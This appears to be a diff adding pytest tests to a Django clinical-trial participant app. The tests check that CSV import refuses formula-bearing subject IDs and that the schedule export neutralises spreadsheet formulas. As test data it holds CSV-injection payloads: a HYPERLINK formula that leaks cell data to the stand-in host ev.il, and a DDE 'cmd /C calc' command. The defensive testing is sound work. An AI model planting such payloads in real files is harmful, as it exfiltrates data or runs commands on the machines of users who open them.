@@ -2,6 +2,7 @@
 (``FILE:LINE: field: message`` or one plain line, exit status 1, never a traceback, nothing
 half-saved)."""
 
+import csv
 import datetime
 import os
 import subprocess
@@ -521,3 +522,64 @@ def test_import_participants_refuses_a_consent_date_before_1990(write, protocol,
         "protocol accepts."
     ]
     assert not Participant.objects.exists()
+
+
+FORMULA = '=HYPERLINK("http://ev.il/?"&B2)'
+
+
+@pytest.mark.django_db
+def test_import_participants_refuses_a_subject_id_a_spreadsheet_would_run(
+    write, protocol, site_ocn
+):
+    path = write(
+        "participants.csv",
+        PARTICIPANTS_HEADER,
+        '"=HYPERLINK(""http://ev.il/?""&B2)",OCN,p1@example.org,2026-01-05',
+        "SLE 001 101 002,OCN,p2@example.org,2026-01-05",
+        "SLE-001-101-003,OCN,p3@example.org,2026-01-05",
+    )
+    assert refused("import_participants", path) == [
+        f"{path}:2: subject_id: “{FORMULA}” is not a subject id: use letters, digits, “-”, "
+        "“_” and “.”, beginning with a letter or digit.",
+        f"{path}:3: subject_id: “SLE 001 101 002” is not a subject id: use letters, digits, "
+        "“-”, “_” and “.”, beginning with a letter or digit.",
+    ]
+    assert not Participant.objects.exists()
+
+
+def exported_formulas(make_participant) -> Participant:
+    """A participant whose subject id and visit names were stored before they were checked."""
+    participant = make_participant(consent_date=D(2026, 1, 5))
+    Participant.objects.filter(pk=participant.pk).update(subject_id=FORMULA)
+    participant.visits.filter(code="SCR").update(name="@SUM(A1:A9)")
+    participant.visits.filter(code="LEUK").update(name="+1+cmd|' /C calc'!A0")
+    participant.visits.filter(code="INF1").update(name="-2+3")
+    participant.visits.filter(code="INF2").update(name="\t=1+1")
+    return participant
+
+
+def check_formulas_exported_as_text(text: str) -> None:
+    rows = {row[3]: row for row in csv.reader(StringIO(text)) if row[0] != "subject_id"}
+    assert {row[0] for row in rows.values()} == {"'" + FORMULA}
+    assert [rows[code][4] for code in ("SCR", "LEUK", "INF1", "INF2")] == [
+        "'@SUM(A1:A9)",
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'\t=1+1",
+    ]
+    # Numbers and dates stay as they are.
+    assert rows["SCR"][5:9] == ["2026-01-05", "2026-01-05", "2026-01-08", "-56"]
+
+
+@pytest.mark.django_db
+def test_export_schedule_writes_cells_a_spreadsheet_would_run_as_text(make_participant):
+    exported_formulas(make_participant)
+    check_formulas_exported_as_text(run("export_schedule"))
+
+
+@pytest.mark.django_db(transaction=True)
+def test_export_schedule_writes_formulas_as_text_through_a_real_process(make_participant):
+    exported_formulas(make_participant)
+    result = manage("export_schedule")
+    assert (result.returncode, result.stderr) == (0, "")
+    check_formulas_exported_as_text(result.stdout)
